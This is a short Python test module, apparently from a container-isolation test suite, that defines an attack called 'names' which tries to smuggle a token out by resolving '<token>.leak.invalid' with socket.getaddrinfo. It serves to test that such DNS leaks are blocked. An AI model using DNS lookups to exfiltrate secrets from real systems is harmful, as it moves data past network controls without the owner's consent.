"""The container's own resolver is asked for a name that holds the data; it would ask a server outside."""

from tests.attacks.attack import Attack
from tests.attacks.grounds.ground import Ground


def attempt(ground: Ground) -> bool:
    """Gives whether it worked."""
    return ground.arrives(f"socket.getaddrinfo('{ground.token}.leak.invalid', 80)")


ATTACK = Attack(
    "names", attempt, unrecorded="The question goes to an address of the container's own on which nobody listens."
)
